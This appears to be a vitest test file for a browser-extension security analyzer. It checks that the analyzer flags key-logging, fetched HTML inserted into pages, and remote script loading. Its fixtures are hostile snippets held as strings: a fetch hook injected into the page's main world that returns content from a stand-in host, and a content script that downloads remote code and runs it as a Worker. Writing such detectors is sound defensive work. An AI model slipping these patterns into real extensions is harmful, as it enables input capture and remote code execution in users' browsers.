import { describe, expect, it } from 'vitest';
import { analyze } from '../analyze.ts';
import { memoryTree } from '../sources/memory.ts';

/* In whose pages a script runs that several load: the extension's own, web pages', the page's own world. */

async function rulesOf(manifest: object, files: Readonly<Record<string, string>>): Promise<readonly string[]> {
  const all = {
    'manifest.json': JSON.stringify({
      manifest_version: 3,
      name: 'Papers',
      version: '1',
      permissions: ['storage', 'scripting'],
      host_permissions: ['<all_urls>'],
      ...manifest,
    }),
    ...files,
  };
  const { findings } = await analyze(memoryTree(all), { kind: 'extension' });
  return findings.filter(({ severity }) => severity === 'critical' || severity === 'high').map(({ rule }) => rule);
}

describe('a script that web pages and pages of the extension load', () => {
  const shared = {
    content_scripts: [{ matches: ['<all_urls>'], js: ['util.js', 'content.js'] }],
    action: { default_popup: 'popup.html' },
  };
  const popup = '<!doctype html><body><script src="util.js"></script><script src="popup.js"></script></body>';
  const util =
    'const field = (id) => document.getElementById(id).value; const keep = (k, v) => chrome.storage.local.set({ [k]: v }); const put = (e, html) => { e.innerHTML = html; };';
  const saves = "setInterval(() => keep('tags', field('tags')), 500); fetch('https://news.example/top');";
  const shows = "fetch('https://news.example/top').then((r) => r.text()).then((t) => put(document.body, t));";
  const inPopup = (script: string) =>
    rulesOf(shared, { 'util.js': util, 'content.js': 'keep("seen", 1);', 'popup.html': popup, 'popup.js': script });
  const inPages = (script: string) =>
    rulesOf(shared, { 'util.js': util, 'content.js': script, 'popup.html': popup, 'popup.js': 'keep("seen", 1);' });

  it('is in the extension’s own page where a script of that page uses it', async () => {
    expect(await inPopup(saves)).not.toContain('key-logging');
    expect(await inPopup(shows)).not.toContain('server-markup-in-pages');
  });
  it('is in web pages where a script of theirs uses it', async () => {
    expect(await inPages(saves)).toContain('key-logging');
    expect(await inPages(shows)).toContain('server-markup-in-pages');
  });
});

describe('a function of the platform that a script replaces in the page’s own world', () => {
  const hook =
    "const before = window.fetch; window.fetch = async (...args) => (await ask('https://code.example/next')) ?? before(...args); async function ask(a) { const x = new XMLHttpRequest(); return new Promise((go) => { x.onload = () => go(new Response(x.responseText)); x.open('GET', a); x.send(); }); }";
  const load = (address: string): string =>
    `const at = ${address}; class Pool { async spawn() { const text = await (await fetch(at)).text(); this.kept = URL.createObjectURL(new Blob([text])); return new Worker(this.kept); } } new Pool().spawn();`;
  const own = "chrome.runtime.getURL('/worker.js')";

  it.each([
    ['registered', "chrome.scripting.registerContentScripts([{ id: 'a', js: ['hook.js'], world: 'MAIN' }]);"],
    ['injected', "chrome.scripting.executeScript({ target: { tabId }, files: ['hook.js'], world: 'MAIN' });"],
  ])('is none of a content script’s: %s', async (_, background) => {
    const manifest = {
      background: { service_worker: 'background.js' },
      content_scripts: [{ matches: ['<all_urls>'], js: ['content.js'] }],
    };
    const files = { 'background.js': background, 'hook.js': hook, 'worker.js': '' };
    expect(await rulesOf(manifest, { ...files, 'content.js': load(own) })).toEqual([]);
    const foreign = await rulesOf(manifest, { ...files, 'content.js': load("'https://code.example/worker.js'") });
    expect(foreign).toContain('remote-script');
  });
});
